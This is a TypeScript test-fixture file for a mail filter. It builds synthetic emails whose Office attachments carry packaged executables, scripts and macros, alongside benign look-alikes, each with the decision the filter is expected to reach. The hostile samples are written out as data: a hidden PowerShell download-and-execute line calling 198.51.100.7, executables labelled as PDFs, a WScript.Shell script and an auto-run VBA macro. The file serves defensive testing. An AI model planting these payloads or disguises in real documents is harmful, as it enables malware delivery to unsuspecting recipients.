/**
 * Office files are containers (issue 8, section 2): what a docx, xlsx, pptx, odt or legacy .doc
 * carries is inspected like an archive member. Programs and scripts packaged as OLE objects, in a
 * zip inside a workbook, in a Word ObjectPool; media inside a document on personal mail (SOP 3.4:
 * the document is a wrapper, not a licence); OpenDocument, which is not Word or Excel (SOP 4.3).
 * The look-alikes: ordinary business documents with images and embedded workbooks, a packaged
 * PDF, and personal documents whose only pictures are the previews Office draws itself.
 */
import { cfbFile, compObj, legacyDoc, legacyXls } from '../cfb-files.js';
import { peExe } from '../executables.js';
import { messageCase, type FixtureCase } from '../manifest.js';
import { pdf, photoJpeg, photoPng } from '../media.js';
import { file } from '../mime.js';
import { legacyPpt, objectPool, odt, packageObjectBin, packagerNative, packagerObjectBin, packagerStreams, pptx, rtfWithObjects } from '../office-objects.js';
import { docx, xlsx } from '../ooxml.js';
import { external, family, staff } from '../people.js';
import { zipBuffer } from '../zip.js';
import { CT, businessText, personalWithFiles, withFiles } from './common.js';
import CFB from 'cfb';

const { alex, priya, daniel, hannah, marcus } = staff;

const CT_PPTX = 'application/vnd.openxmlformats-officedocument.presentationml.presentation';
const CT_ODT = 'application/vnd.oasis.opendocument.text';
const CT_PPT = 'application/vnd.ms-powerpoint';
const CT_RTF = 'application/rtf';

/** A minimal EMF: the header record Office writes for an embedded object's preview picture. */
function emfPreview(): Buffer {
  const b = Buffer.alloc(108);
  b.writeUInt32LE(1, 0); // EMR_HEADER
  b.writeUInt32LE(108, 4);
  b.writeUInt32LE(0x464d4520, 40); // ' EMF'
  b.writeUInt32LE(0x00010000, 44);
  b.writeUInt32LE(b.length + 20, 48);
  b.writeUInt32LE(2, 52);
  const eof = Buffer.alloc(20);
  eof.writeUInt32LE(14, 0); // EMR_EOF
  eof.writeUInt32LE(20, 4);
  return Buffer.concat([b, eof]);
}

const budget = () =>
  xlsx({ sheetName: 'Budget', rows: [['Line', 'Amount'], ['Overtime', 12400], ['Vehicles', 8300], ['Training', 2100]] });

/** Every stream of a compound file, moved under `prefix` (an embedded document storage). */
function storageOf(prefix: string, cfb: Buffer): (readonly [string, Buffer])[] {
  const parsed = CFB.read(cfb, { type: 'buffer' });
  const out: (readonly [string, Buffer])[] = [];
  parsed.FullPaths.forEach((full, i) => {
    const e = parsed.FileIndex[i];
    if (e?.type === 2 && e.content && !full.endsWith('Sh33tJ5')) out.push([`${prefix}${full.replace(/^[^/]*\//, '')}`, Buffer.from(e.content as Uint8Array)]);
  });
  return out;
}

export const officeContainerCases: FixtureCase[] = [
  messageCase({
    file: 'office/docx-packaged-exe.eml',
    description: 'A docx with an OLE package object labelled "Invoice 0325.pdf" that holds invoice.exe.',
    from: hannah.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['unscannable'], marking: null },
    message: async () => ({
      subject: 'Invoice query 0325',
      body: withFiles(businessText(hannah, 'Hello,\n\nThe invoice is inside the attached note, double-click the icon to open it.'), [
        file(
          await docx({
            paragraphs: ['Invoice query 0325', 'Please see the invoice below.'],
            parts: [
              { path: 'media/image1.emf', data: emfPreview(), kind: 'image' },
              { path: 'embeddings/oleObject1.bin', data: packagerObjectBin({ label: 'Invoice 0325.pdf', sourcePath: 'C:\\Users\\hkowal\\Desktop\\invoice.exe', data: peExe('Invoice') }), kind: 'oleObject' },
            ],
          }),
          { filename: 'Invoice query.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-packaged-pdf.eml',
    description: 'Look-alike: a docx with an OLE package object holding a real PDF: accepted.',
    from: hannah.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable'], marking: null },
    message: async () => ({
      subject: 'Invoice query 0326',
      body: withFiles(businessText(hannah, 'Hello,\n\nThe invoice is inside the attached note.'), [
        file(
          await docx({
            paragraphs: ['Invoice query 0326'],
            parts: [
              { path: 'media/image1.emf', data: emfPreview(), kind: 'image' },
              { path: 'embeddings/oleObject1.bin', data: packagerObjectBin({ label: 'Invoice 0326.pdf', sourcePath: 'C:\\Users\\hkowal\\Desktop\\Invoice 0326.pdf', data: pdf('Invoice 0326', ['Brightwater Security', 'Amount due 1,240.00']) }), kind: 'oleObject' },
            ],
          }),
          { filename: 'Invoice query.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-packaged-js.eml',
    description: 'A docx with a packaged JavaScript file whose icon says "Read me.txt".',
    from: marcus.mailbox,
    to: [priya.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: [], marking: null },
    message: async () => ({
      subject: 'Setup notes',
      body: withFiles(businessText(marcus, 'Priya,\n\nNotes attached; the readme inside sets up the share.'), [
        file(
          await docx({
            paragraphs: ['Setup notes'],
            parts: [{ path: 'embeddings/oleObject1.bin', data: packagerObjectBin({ label: 'Read me.txt', sourcePath: 'C:\\temp\\setup-share.js', data: Buffer.from('var s = new ActiveXObject("WScript.Shell");\r\ns.Run("net use z: \\\\\\\\files\\\\share");\r\n') }), kind: 'oleObject' }],
          }),
          { filename: 'Setup notes.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/xlsx-zip-bat.eml',
    description: 'An xlsx carrying a zip in xl/embeddings with a batch script inside.',
    from: daniel.mailbox,
    to: [external.council.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: [], marking: null },
    message: async () => ({
      subject: 'Rota figures',
      body: withFiles(businessText(daniel, 'Joseph,\n\nThe rota figures, with the macro-free tool to refresh them.'), [
        file(
          await xlsx({
            sheetName: 'Rota',
            rows: [['Week', 'Shifts'], [1, 42], [2, 40]],
            parts: [{ path: 'embeddings/refresh.zip', data: await zipBuffer([{ path: 'refresh/refresh.bat', data: Buffer.from('@echo off\r\npowershell -nop -w hidden -c "iwr http://198.51.100.7/r.ps1|iex"\r\n') }]), kind: 'package' }],
          }),
          { filename: 'Rota figures.xlsx', contentType: CT.xlsx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/doc-objectpool-exe.eml',
    description: 'A Word 97-2003 .doc with a packaged program in its ObjectPool.',
    from: alex.mailbox,
    to: [external.solicitor.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['unscannable'], marking: null },
    message: () => ({
      subject: 'Disclosure schedule',
      body: withFiles(businessText(alex, 'Mr Clarke,\n\nThe schedule is attached, with the viewer embedded.'), [
        file(
          legacyDoc({ text: 'Disclosure schedule\nSee the embedded viewer.', streams: objectPool(1, (p) => packagerStreams(p, { label: 'Schedule viewer', sourcePath: 'C:\\tools\\viewer.exe', data: peExe('Viewer') })) }),
          { filename: 'Disclosure schedule.doc', contentType: CT.doc },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/doc-objectpool-xls.eml',
    description: 'Look-alike: a .doc with an ordinary embedded Excel worksheet in its ObjectPool: accepted.',
    from: alex.mailbox,
    to: [external.solicitor.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable'], marking: null },
    message: () => ({
      subject: 'Costs schedule',
      body: withFiles(businessText(alex, 'Mr Clarke,\n\nThe costs schedule, with the figures embedded.'), [
        file(
          legacyDoc({ text: 'Costs schedule', streams: storageOf('ObjectPool/_1493700002/', legacyXls({ sheetName: 'Costs', cells: ['Counsel', 'Experts'] })) }),
          { filename: 'Costs schedule.doc', contentType: CT.doc },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/ppt-object-exe.eml',
    description: 'A PowerPoint 97-2003 deck with a packaged program in an embedded OLE object record.',
    from: marcus.mailbox,
    to: [external.consultant.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['unscannable'], marking: null },
    message: () => ({
      subject: 'Briefing deck',
      body: withFiles(businessText(marcus, 'Kieran,\n\nThe briefing deck; the demo is on slide 3.'), [
        file(legacyPpt([packagerObjectBin({ label: 'Demo', sourcePath: 'C:\\demo\\demo.exe', data: peExe('Demo') })]), { filename: 'Briefing.ppt', contentType: CT_PPT }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/ppt-object-xlsx.eml',
    description: 'Look-alike: a PowerPoint 97-2003 deck with an embedded workbook: accepted.',
    from: marcus.mailbox,
    to: [external.consultant.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable'], marking: null },
    message: async () => ({
      subject: 'Briefing deck v2',
      body: withFiles(businessText(marcus, 'Kieran,\n\nThe briefing deck with the budget table embedded.'), [
        file(legacyPpt([packageObjectBin(await budget())]), { filename: 'Briefing v2.ppt', contentType: CT_PPT }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-business-embedded.eml',
    description: 'Look-alike: a business report with photos, a thumbnail, an embedded xlsx and an OLE-wrapped xlsx: accepted.',
    from: priya.mailbox,
    to: [external.council.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable', 'personal-media'], marking: null },
    message: async () => ({
      subject: 'Estate walkabout report',
      body: withFiles(businessText(priya, 'Joseph,\n\nThe walkabout report with the photographs and the budget embedded.'), [
        file(
          await docx({
            paragraphs: ['Estate walkabout report', 'Photographs of the damaged lighting are below, with the repair budget.'],
            parts: [
              { path: 'media/image1.jpeg', data: photoJpeg('Canon EOS'), kind: 'image' },
              { path: 'media/image2.png', data: photoPng(64, 48), kind: 'image' },
              { path: 'media/image3.emf', data: emfPreview(), kind: 'image' },
              { path: 'embeddings/Microsoft_Excel_Worksheet.xlsx', data: await budget(), kind: 'package' },
              { path: 'embeddings/oleObject1.bin', data: packageObjectBin(await budget()), kind: 'oleObject' },
            ],
          }),
          { filename: 'Walkabout report.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-personal-photos.eml',
    description: 'Personal mail with a docx that carries photographs: personal media (the document is only a wrapper).',
    from: alex.mailbox,
    to: [family.mum.mailbox],
    expect: { decision: 'reject', rules: ['personal-media'], absent: ['personal-attachment-type'], marking: null, personal: true },
    message: async () => ({
      subject: '[Personal] Holiday photos',
      body: personalWithFiles('Mum,\n\nThe holiday photos, in a document so they print on one page.', [
        file(
          await docx({ paragraphs: ['Cornwall, August'], parts: [{ path: 'media/image1.jpeg', data: photoJpeg('Apple iPhone 13'), kind: 'image' }, { path: 'media/image2.png', data: photoPng(80, 60), kind: 'image' }] }),
          { filename: 'Holiday.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-personal-embedded-xlsx.eml',
    description: 'Look-alike: personal mail with a docx holding an embedded xlsx and its EMF preview: allowed.',
    from: daniel.mailbox,
    to: [family.ben.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['personal-media', 'personal-attachment-type'], marking: null, personal: true },
    message: async () => ({
      subject: '[Personal] Stag do costs',
      body: personalWithFiles('Ben,\n\nThe costs so far, the table is in the letter.', [
        file(
          await docx({
            paragraphs: ['Stag do costs'],
            parts: [
              { path: 'media/image1.emf', data: emfPreview(), kind: 'image' },
              { path: 'embeddings/oleObject1.bin', data: packageObjectBin(await xlsx({ rows: [['Item', 'Cost'], ['Minibus', 240]] })), kind: 'oleObject' },
            ],
          }),
          { filename: 'Stag do.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/pptx-personal.eml',
    description: 'Personal mail with a pptx: not a Word or Excel file.',
    from: daniel.mailbox,
    to: [family.club.mailbox],
    expect: { decision: 'reject', rules: ['personal-attachment-type'], absent: ['personal-media'], marking: null, personal: true },
    message: async () => ({
      subject: '[Personal] Quiz night slides',
      body: personalWithFiles('Slides for Friday attached.', [file(await pptx('Quiz night: round one'), { filename: 'Quiz night.pptx', contentType: CT_PPTX })]),
    }),
  }),
  messageCase({
    file: 'office/odt-personal.eml',
    description: 'Personal mail with an OpenDocument text: not Microsoft Word or Excel (SOP 4.3).',
    from: alex.mailbox,
    to: [family.club.mailbox],
    expect: { decision: 'reject', rules: ['personal-attachment-type'], absent: ['personal-media'], marking: null, personal: true },
    message: async () => ({
      subject: '[Personal] Club minutes',
      body: personalWithFiles('Minutes attached, written in LibreOffice.', [file(await odt({ paragraphs: ['Minutes of the AGM', 'Present: twelve members.'] }), { filename: 'AGM minutes.odt', contentType: CT_ODT })]),
    }),
  }),
  messageCase({
    file: 'office/odt-business-pictures.eml',
    description: 'Look-alike: business mail with an odt carrying pictures: OpenDocument is fine for business.',
    from: priya.mailbox,
    to: [external.school.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable', 'macro-documents'], marking: null },
    message: async () => ({
      subject: 'Assembly talk',
      body: withFiles(businessText(priya, 'Ms Price,\n\nThe notes for the assembly talk, as an OpenDocument file.'), [
        file(await odt({ paragraphs: ['Staying safe online'], pictures: [['logo.png', photoPng(32, 32)]] }), { filename: 'Assembly talk.odt', contentType: CT_ODT }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/odt-object-exe.eml',
    description: 'An odt with a foreign OLE object (Object 1) that packages a program.',
    from: priya.mailbox,
    to: [external.school.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: [], marking: null },
    message: async () => ({
      subject: 'Assembly quiz',
      body: withFiles(businessText(priya, 'Ms Price,\n\nThe quiz is embedded in the notes.'), [
        file(await odt({ paragraphs: ['Quiz'], objects: [['Object 1', packagerObjectBin({ label: 'Quiz', sourcePath: 'C:\\quiz\\quiz.scr', data: peExe('Quiz') })]] }), { filename: 'Assembly quiz.odt', contentType: CT_ODT }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-embedded-xlsm.eml',
    description: 'A macro-free docx carrying an embedded macro-enabled workbook: the macros are found inside.',
    from: hannah.mailbox,
    to: [external.council.mailbox],
    expect: { decision: 'quarantine', rules: ['macro-documents'], absent: ['executable-content', 'unscannable'], marking: null },
    message: async () => ({
      subject: 'Ward profile',
      body: withFiles(businessText(hannah, 'Joseph,\n\nThe ward profile; the figures refresh from the embedded workbook.'), [
        file(
          await docx({
            paragraphs: ['Ward profile'],
            parts: [{ path: 'embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm', data: await xlsx({ rows: [['Ward', 'Calls']], vba: { module: 'ThisWorkbook', source: 'Sub Workbook_Open()\nShell "cmd /c calc"\nEnd Sub' } }), kind: 'package' }],
          }),
          { filename: 'Ward profile.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/odt-basic-macro.eml',
    description: 'An odt with a Basic macro library: a macro document.',
    from: priya.mailbox,
    to: [external.school.mailbox],
    expect: { decision: 'quarantine', rules: ['macro-documents'], absent: ['executable-content'], marking: null },
    message: async () => ({
      subject: 'Assembly sign-up form',
      body: withFiles(businessText(priya, 'Ms Price,\n\nThe sign-up form; the button fills in the date.'), [
        file(await odt({ paragraphs: ['Sign-up'], basic: 'Sub FillDate\nThisComponent.Text.setString(Date)\nEnd Sub' }), { filename: 'Sign-up form.odt', contentType: CT_ODT }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-equation-editor.eml',
    description: 'A docx with an Equation Editor 3.0 object (the exploited, removed editor): held for review.',
    from: hannah.mailbox,
    to: [external.supplier.mailbox],
    expect: { decision: 'quarantine', rules: ['unscannable'], absent: ['executable-content'], marking: null },
    message: async () => ({
      subject: 'Tender scoring formula',
      body: withFiles(businessText(hannah, 'Hello,\n\nThe scoring formula is in the attached note.'), [
        file(
          await docx({
            paragraphs: ['Scoring formula'],
            parts: [{ path: 'embeddings/oleObject1.bin', data: cfbFile(null, [['Equation Native', Buffer.concat([Buffer.from([0x1c, 0x00, 0x00, 0x00, 0x02, 0x00, 0x9e, 0xc4, 0xa9, 0x00]), Buffer.alloc(180, 0x08)])], ['\u0001CompObj', compObj('Microsoft Equation 3.0', 'DS Equation', 'Equation.3')]]), kind: 'oleObject' }],
          }),
          { filename: 'Scoring formula.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
  messageCase({
    file: 'office/rtf-packaged-exe.eml',
    description: 'An RTF letter with a packaged program in an \\objdata object: Word would open it.',
    from: daniel.mailbox,
    to: [external.housing.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: [], marking: null },
    message: () => ({
      subject: 'Tenancy letter',
      body: withFiles(businessText(daniel, 'Hello,\n\nThe letter is attached in RTF.'), [
        file(rtfWithObjects('Dear tenant, please open the attached form.', [['Package', packagerNative({ label: 'Form.pdf', sourcePath: 'C:\\forms\\form.exe', data: peExe('Form') })]]), { filename: 'Tenancy letter.rtf', contentType: CT_RTF }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/rtf-embedded-doc.eml',
    description: 'Look-alike: an RTF letter with an embedded Word document object: accepted.',
    from: daniel.mailbox,
    to: [external.housing.mailbox],
    expect: { decision: 'accept', rules: [], absent: ['executable-content', 'unscannable'], marking: null },
    message: () => ({
      subject: 'Tenancy letter (revised)',
      body: withFiles(businessText(daniel, 'Hello,\n\nThe revised letter, with the schedule embedded.'), [
        file(rtfWithObjects('Dear tenant, the schedule is below.', [['Word.Document.8', legacyDoc({ text: 'Schedule of works' })]]), { filename: 'Tenancy letter v2.rtf', contentType: CT_RTF }),
      ]),
    }),
  }),
  messageCase({
    file: 'office/docx-broken-object.eml',
    description: 'A docx whose embedded OLE object is cut short: cannot be checked, held for review.',
    from: marcus.mailbox,
    to: [hannah.mailbox],
    expect: { decision: 'quarantine', rules: ['unscannable'], absent: ['executable-content'], marking: null },
    message: async () => ({
      subject: 'Network diagram',
      body: withFiles(businessText(marcus, 'Hannah,\n\nThe diagram with the config embedded.'), [
        file(
          await docx({ paragraphs: ['Network diagram'], parts: [{ path: 'embeddings/oleObject1.bin', data: packagerObjectBin({ label: 'config', sourcePath: 'C:\\x\\config.txt', data: Buffer.alloc(9000, 0x41) }).subarray(0, 2048), kind: 'oleObject' }] }),
          { filename: 'Network diagram.docx', contentType: CT.docx },
        ),
      ]),
    }),
  }),
];
